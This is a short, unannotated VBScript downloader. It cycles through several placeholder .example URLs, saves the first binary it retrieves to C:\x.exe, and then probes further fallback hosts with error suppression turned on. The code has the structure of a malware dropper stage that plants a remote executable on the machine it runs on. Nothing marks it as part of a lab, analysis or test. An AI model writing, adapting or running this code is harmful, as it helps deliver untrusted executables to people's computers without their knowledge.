u = Array("http://a1.example/x","http://a2.example/y","http://a3.example/z")
For Each i In u
  Set h = CreateObject("MSXML2.XMLHTTP")
  h.Open "GET", i, False
  h.Send
  If h.Status = 200 Then
    Set s = CreateObject("ADODB.Stream")
    s.Type = 1 : s.Open : s.Write h.responseBody : s.SaveToFile "C:\x.exe", 2
    Exit For
  End If
Next
On Error Resume Next
For k = 0 To 2
  h.Open "GET", Array("http://b1.example/","http://b2.example/","http://b3.example/")(k), False
  h.Send
  If Err.Number = 0 Then Exit For
  Err.Clear
Next
Function dl(a)
  dl = False
  h.Open "GET", a, False
  h.Send
  If h.Status = 200 Then dl = True
End Function
For Each i In Array("http://e1.example/","http://e2.example/")
  If dl(i) Then WScript.Quit
Next
